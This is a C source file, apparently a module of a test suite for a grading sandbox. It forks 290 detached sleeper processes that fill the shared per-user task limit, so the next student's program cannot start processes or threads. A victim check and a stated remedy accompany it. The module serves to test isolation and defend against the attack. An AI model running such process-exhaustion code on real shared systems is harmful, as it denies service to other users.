// SPDX-License-Identifier: MIT
// build: -pthread
/*
 * starves-next.c - the student before you took every place.
 *
 * Goal: the next student's honest program cannot start its helpers.
 * Means: RLIMIT_NPROC and the instance's task limit count per user and per instance, not per
 * submission. The attacker parks sleepers in sessions of their own until the limit refuses one
 * more, and ends. Killing its process group, or the one pid that was started, leaves them there.
 *
 *     attacker  ----fork----> 290 sleepers, setsid, 5 s
 *       ends
 *     victim    ----fork----> EAGAIN
 */
#include "attacks/attack.h"

#include <errno.h>
#include <pthread.h>
#include <sys/wait.h>
#include <unistd.h>

#define TASKS 290
#define CREW  12 /* more than the attacker leaves free of the instance's 300 */

/* Hold no pipe of the caller's, or it would wait for us instead of starting the next student. */
static _Noreturn void park(void)
{
	setsid();
	close_range(0, ~0U, 0);
	sleep(5);
	_exit(0);
}

static enum claim run(const struct brief *b)
{
	attempting(b);
	for (int parked = 0; parked < TASKS; parked++) {
		pid_t child = fork();

		if (!child)
			park();
		if (child > 0)
			continue;
		return parked ? CLAIM_DONE : denied("fork");
	}
	return CLAIM_DONE;
}

static void *meet(void *everybody)
{
	pthread_barrier_wait(everybody);
	return NULL;
}

/* The same exercise with threads. They meet, so that all of them live at the same time. */
static enum claim threads(void)
{
	static pthread_barrier_t everybody;
	pthread_t crew[CREW];

	pthread_barrier_init(&everybody, NULL, CREW);
	for (int i = 0; i < CREW; i++) {
		errno = pthread_create(&crew[i], NULL, meet, &everybody);
		if (errno)
			return failed("pthread_create");
	}
	for (int i = 0; i < CREW; i++)
		pthread_join(crew[i], NULL);
	return CLAIM_DONE;
}

/*
 * A dozen children, and their exit statuses added up. Where processes are denied by policy, which
 * is no EAGAIN, the student uses threads: both are tasks, and both can be starved.
 */
static enum claim victim(const struct brief *b)
{
	int done = 0, status, refused = 0;

	(void)b;
	for (int i = 0; i < CREW && !refused; i++) {
		pid_t child = fork();

		if (!child)
			_exit(1);
		if (child < 0)
			refused = errno;
	}
	while (wait(&status) > 0)
		done += WIFEXITED(status) ? WEXITSTATUS(status) : 0;
	if (done == CREW)
		return CLAIM_DONE;
	errno = refused;
	return refused == EAGAIN ? failed("fork") : threads();
}

const struct attack attack = {
	.effect = "the next student's program cannot start a process",
	.means = "sleepers in their own sessions fill the instance's task limit; the attacker ends",
	.oracle = "victim",
	.scene = SCENE_BEFORE_VICTIM,
	.quick = true,
	.id = "FORK-12",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "end every process of a submission, whatever its session, before the next starts",
	.run = run,
	.victim = victim,
};
